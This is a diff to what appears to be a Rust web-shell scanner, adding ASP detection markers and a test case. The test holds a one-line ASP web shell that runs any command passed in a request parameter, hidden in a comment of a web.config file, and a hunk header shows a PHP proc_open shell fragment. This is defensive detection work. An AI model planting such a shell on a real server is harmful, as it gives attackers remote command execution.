@@ -74,6 +74,8 @@ fn kind_by_content(head: &[u8]) -> Option<ScriptKind> {
         || has_l(b"request.form")
         || has_l(b"request.querystring")
         || has_l(b"request.item")
+        || has_l(b"response.write")
+        || has_l(b"server.createobject")
     {
         Some(ScriptKind::Asp)
     } else if has_l(b"<%@ page")
@@ -1555,6 +1557,7 @@ fn asp_fixed(t: &str, hits: &mut Vec<Hit>) {
     }
     if let Some(p) = t.find("assembly.load(")
         && (t.contains("request.binaryread")
+            || t.contains("request.inputstream")
             || t.contains("request.form")
             || t.contains("request["))
     {
@@ -2296,6 +2299,14 @@ $process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "
             Some(ScriptKind::Asp)
         );
         assert_eq!(script_kind("t.tpl", b"<% if x %>template<% end %>"), None);
+        // VBScript in a web.config, run once a handler maps `.config` to asp.dll.
+        assert_eq!(
+            script_kind(
+                "web.config",
+                b"<configuration/>\n<!-- <% Response.Write CreateObject(\"WScript.Shell\").Exec(Request(\"c\")).StdOut.ReadAll() %> -->"
+            ),
+            Some(ScriptKind::Asp)
+        );
         // Named for one language, holding only another's code.
         assert_eq!(
             script_kind(
